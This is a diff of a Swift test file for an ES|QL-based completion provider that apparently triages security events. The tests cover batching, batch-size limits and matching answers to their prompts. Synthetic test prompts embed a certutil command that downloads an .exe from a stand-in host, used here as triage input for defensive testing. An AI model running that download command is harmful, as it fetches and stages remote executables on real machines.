@@ -69,12 +69,14 @@ struct EsqlCompletionBatchTests {
         let prompts = (0..<150).map { index in
             index.isMultiple(of: 2) ? "host-\(index) certutil -urlcache -split -f http://x/\"a\".exe" : "host-\(index) CcmExec.exe compliance \\ baseline"
         }
-        let answers = try await provider.completeBatch(prompts)
+        let batch = prompts.enumerated().map { CompletionRequest(prompt: $1, caseID: "case-\($0)", sample: 0, output: .esqlTriage) }
+        #expect(provider.maxBatchSize == 100)
+        let answers = try await provider.completeBatch(batch)
         #expect(answers.count == 150)
         // The stub answers each prompt on its own (heuristically): answers differ by prompt content.
         #expect(answers[0].text.hasPrefix("verdict="))
         #expect(Set(answers.map(\.text)).count > 1)
-        let single = try await provider.completeBatch([prompts[1]])
+        let single = try await provider.completeBatch([batch[1]])
         #expect(single.first?.text == answers[1].text)
 
         let requests = try await stub.requests().filter { $0.path == "/_query" }
@@ -85,13 +87,15 @@ struct EsqlCompletionBatchTests {
         #expect(queries.dropFirst().first == provider.batchQuery(for: Array(prompts[100...])))
     }
 
-    @Test("a reordered or short result is an error, never a mismatched answer")
+    @Test("answers are matched by the echoed prompt (MV_EXPAND may reorder rows); a short or foreign result is an error")
     func mismatched() throws {
         let provider = EsqlCompletionProvider(transport: UnusedTransport(), baseURL: "https://es:9200", inferenceID: "e", auth: .apiKey(Secret("k")))
-        let body = #"{"columns":[{"name":"prompt","type":"keyword"},{"name":"triage_result","type":"keyword"}],"values":[["b","x"],["a","y"]]}"#
+        let body = #"{"columns":[{"name":"prompt","type":"keyword"},{"name":"triage_result","type":"keyword"}],"values":[["b","x"],["a","y"],["b","z"]]}"#
         let response = HTTPResponse(status: 200, body: Data(body.utf8))
+        #expect(try provider.completions(from: response, for: ["a", "b", "b"]).map(\.text) == ["y", "x", "z"])
+        #expect(try provider.completions(from: response, for: ["b", "b", "a"]).map(\.text) == ["x", "z", "y"])
         #expect(throws: ProviderError.self) { try provider.completions(from: response, for: ["a", "b"]) }
-        #expect(throws: ProviderError.self) { try provider.completions(from: response, for: ["b", "a", "c"]) }
-        #expect(try provider.completions(from: response, for: ["b", "a"]).map(\.text) == ["x", "y"])
+        #expect(throws: ProviderError.self) { try provider.completions(from: response, for: ["a", "b", "c"]) }
+        #expect(throws: ProviderError.self) { try provider.completions(from: response, for: ["a", "a", "b"]) }
     }
 }
